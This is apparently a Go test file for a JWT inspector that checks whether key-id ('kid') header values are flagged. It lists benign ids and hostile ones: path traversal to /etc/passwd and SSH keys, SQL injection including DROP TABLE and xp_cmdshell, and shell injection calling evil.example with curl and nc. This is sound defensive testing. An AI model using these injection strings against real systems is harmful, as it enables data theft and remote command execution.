package inspect

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"jotlens/jose"
)

// kidFindings lists the rules about the key id that fire on a kid.
func kidFindings(t testing.TB, kid string) string {
	t.Helper()
	name, err := json.Marshal(kid)
	if err != nil {
		t.Fatal(err)
	}
	f := &facts{token: &jose.Token{Header: jose.ReadJSON([]byte(`{"kid":` + string(name) + `}`))}}
	var all []string
	for _, rule := range kidRules {
		rule.Check(f, func(h Hit) {
			if h.Part != "header" || h.Span.Empty() || h.Span.End > len(f.token.Header.Text) {
				t.Errorf("%s: part %q, span %v", rule.ID, h.Part, h.Span)
			}
			all = append(all, strings.TrimPrefix(rule.ID, "kid-"))
		})
	}
	return strings.Join(all, " ")
}

// Key ids as issuers, clouds and people write them.
func TestOrdinaryKeyIDsAreQuiet(t *testing.T) {
	kids := []string{
		// thumbprints and random names
		"NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs",
		"/J3dhsUN4h1mD2gPNTYoNZ+4RKhG8vKUr2wzyXNqsvM=",
		"/9mY5rPzqZq3l1K0b7Xw2/Bf+8o=",
		"//8AAQIDBAUGBwgJCgsMDQ==",
		"/J3dhsUN4h1mD2gPNTYoNZ+4RKhG8vKUr2wzyXNqsvM",
		"Ct4+/aB09/xx==",
		"1LTMzakihiRla_8z2BEJVXeWMqo",
		"-KI3Q9nNR7bRofxmeZoXqbHZGew",
		"f2f4c5d9e1a24c47b55e6f7c1c1b3d21",
		"4ba8bb92b6d5a7e2c1f0d3e4a5b6c7d8e9f00112",
		"8b2c1a3e-7f6d-4e5c-9b8a-0123456789ab",
		"01HZX3K5Q2W7N8M9P0R1S2T3V4",
		"SHA256:uNiVztksCsDhcc0u9e8BrrJXVGDBxUG2uHnLWxF0Fxo",
		"MD5:16:27:ac:a5:76:28:2d:36:63:1b:56:4d:eb:df:a6:48",
		"urn:ietf:params:oauth:jwk-thumbprint:sha-256:NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs",
		// clouds and products
		"arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab",
		"arn:aws:kms:eu-west-1:111122223333:alias/token/signing",
		"projects/demo/locations/europe-west1/keyRings/tokens/cryptoKeys/sign/cryptoKeyVersions/3",
		"projects/x/locations/y",
		"deployer@demo-project.iam.gserviceaccount.com",
		"vault:v1:tokens",
		"transit/keys/jwt:2",
		"E2h7k8vBn/Zq0+eu-west-1_Example",
		"auth0|5f7c8ec7c33c6c004bbafe82",
		"tenant-a|key-2|2026",
		"acme||signing",
		"org_9ybsU1dN2dKfDkBi;v3",
		"2024-01-01;prod",
		"2024-01-01; prod",
		"prod;region=eu;order=1",
		// DIDs, URNs, subjects
		"did:web:example.com#key-1",
		"did:key:z6MkhaXgBZDvotDkL5257faiztiGiC2QtKLGpbnnEGta2doK#z6MkhaXgBZDvotDkL5257faiztiGiC2QtKLGpbnnEGta2doK",
		"did:ion:test;service=agent?relativeRef=%2Fkeys%2F1#0",
		"did:example:123?versionId=4&hl=zQm",
		"urn:example:keys:1",
		"tag:example.com,2026:keys/1",
		"CN=Signing Key,OU=Dev & Ops,O=Example \"Nord\" GmbH,C=DE",
		"CN=zoe, O=Smith or Sons, C=US",
		"/C=US/O=Example/OU=Grid/CN=host/login.example.com",
		"x509:sha1:5E:A1",
		// people
		"zoe@example.com",
		"zoe+keys@example.com",
		"o'neill@example.com",
		"Zoë’s key",
		"Zoë's key, and Bob's",
		"Zoë's key -- the new one",
		"the bosses' and the workers' key",
		"the 'old' or the \"new\" key",
		"\"Prod\" and \"Test\" (2026)",
		"the 'western' union",
		"our 'select' key; the best",
		"update the key; drop the old one",
		"\"Prod\" #2",
		"key #4",
		"C# signing key",
		"id=4&version=7",
		"R&D key",
		"a -> b",
		"one or two",
		"sign/1",
		"keys/2026/01.pem",
		"v1.2.3",
		"..hidden",
		"100%",
		"50%2Foff",
		"$2026",
		"~zoe",
		"k:1",
		"Ключ-1",
		"鍵",
		"1",
		"",
		strings.Repeat("k", 256),
	}
	if len(kids) < 40 {
		t.Fatalf("only %d key ids", len(kids))
	}
	for _, kid := range kids {
		if got := kidFindings(t, kid); got != "" {
			t.Errorf("%q: %s", kid, got)
		}
	}
}

func TestHostileKeyIDsAreNamed(t *testing.T) {
	tests := map[string][]string{
		"path-traversal": {
			"../../../../dev/null", "../../../../../../../dev/null", "keys/../../etc/passwd", `..\..\windows\win.ini`, "..", "keys/..", "....//....//etc/passwd",
			"/etc/passwd", "/proc/sys/kernel/randomize_va_space", "/var/lib/jenkins/keys/Prod1", "/dev/null", "dev/null/dev/null", `\\evil.example\share\key`, `C:\Windows\win.ini`, `c:\key`,
			"~/.ssh/id_rsa", "file:///etc/passwd", "FILE:/etc/hostname", "..%2f..%2fetc%2fpasswd", "%2e%2e%2fkey", "%2fetc%2fpasswd", "%2Fdev%2Fnull", "/",
			"/AAAA", "/////", "/CN=x/../../key",
		},
		"sql": {
			"x' UNION SELECT 'secret'", "x' UNION ALL SELECT 'secret';--", "non-existent' union select 'aaa", "1 UNION/**/SELECT/**/null", "x' union distinct select 1 -- -",
			"' or 1=1", "' OR '1'='1", "' or ''='", `" or ""="`, "1 or 1=1", "key' AND sleep(5) AND 'a'='a", "key' and 1=2--", "' or true", "x' or not false", "x'/**/or/**/1=1", "') or ('1'='1",
			"x';drop table keys", "x'; DROP TABLE keys;--", "x'; insert into keys values (1)", "x'; update users set role='admin'", "x'; delete from keys", "x'; select * from keys", "x;select pg_sleep(5)", "x'; exec xp_cmdshell('calc')", "x'; EXEC(@q)",
			"x'--", "x' -- ", "x'#", `x"#`, "x'/*", "admin')--", "x' || (select '') || '", "x'; #",
		},
		"command": {
			"$(id)", "key$(curl evil.example)", "`id`", "key|whoami", "| nc evil.example 4444", "key;id", "key; ls", "key.pem; cat /etc/passwd", "x;/bin/sh", "x;sleep 10", "x & ping -c 10 evil.example", "x && y", "x|bash", "x| bash -i", "a\nb", "a\r\n b",
			"/root/res/keys/secret7.key; cd /root/res/keys/ && python -m SimpleHTTPServer 1337&", "x;powershell.exe -c calc", "x || curl evil.example", "x;PYTHON3 -c 1",
		},
		"ldap": {"*)(uid=*", "zoe)(|(uid=*", "x)(&", "*)(objectClass=*"},
		"url":  {"https://keys.example.com/1", "HTTP://keys.example.com", "https://vault.example.net/keys/sign/1"},
	}
	for want, kids := range tests {
		for _, kid := range kids {
			if got := strings.Fields(kidFindings(t, kid)); !slices.Contains(got, want) {
				t.Errorf("%q: %v, want %s", kid, got, want)
			}
		}
	}
}

func TestKeyIDsThatAreLongOrCarryControlCharacters(t *testing.T) {
	for _, kid := range []string{strings.Repeat("k", 257), "a\tb", "a\x00", "\x7f", "a\u0085", "a\n"} {
		if got := kidFindings(t, kid); got != "oversize" {
			t.Errorf("%q: %s", kid, got)
		}
	}
	// Only the beginning of a monster is judged.
	if got := kidFindings(t, strings.Repeat("k", maxKeyID)+"../"); got != "oversize" {
		t.Errorf("a monster: %s", got)
	}
	if got := kidFindings(t, strings.Repeat("k", maxKeyID-3)+"../"); got != "path-traversal oversize" {
		t.Errorf("just below: %s", got)
	}
}

func TestAKeyIDThatIsNoStringRefusesTheToken(t *testing.T) {
	for _, kid := range []string{"17", "null", "true", "[]", `{"a":1}`, `["../"]`} {
		r := inspect(sign(t, `{"alg":"HS256","typ":"JWT","kid":`+kid+`}`, `{}`, goodSecret), goodSecret, jose.Auto)
		if !has(r, "kid-not-string") || r.Signature.State != Refused || r.Signature.Rule != "kid-not-string" {
			t.Errorf("%s: %s by %q; %s", kid, r.Signature.State, r.Signature.Rule, ids(r))
		}
	}
}
